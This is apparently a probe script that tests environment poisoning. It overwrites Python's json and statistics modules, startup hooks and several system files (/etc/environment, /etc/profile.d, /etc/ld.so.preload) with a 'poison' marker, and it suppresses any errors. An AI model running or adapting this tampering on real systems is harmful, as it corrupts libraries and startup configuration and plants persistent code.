import json, os, py_compile, site, statistics, sys
TEXT = "import sys\nsys.poison = True\npoison = True\n"
for path in (statistics.__file__, statistics.__cached__, json.__file__, "/etc/python3.11/sitecustomize.py", "/usr/lib/python3/dist-packages/poison.pth", site.getusersitepackages() + "/usercustomize.py", "/etc/environment", "/etc/profile.d/x.sh", "/etc/ld.so.preload", "/tmp/.local/lib/python3.11/site-packages/usercustomize.py"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(TEXT)
    except OSError:
        pass
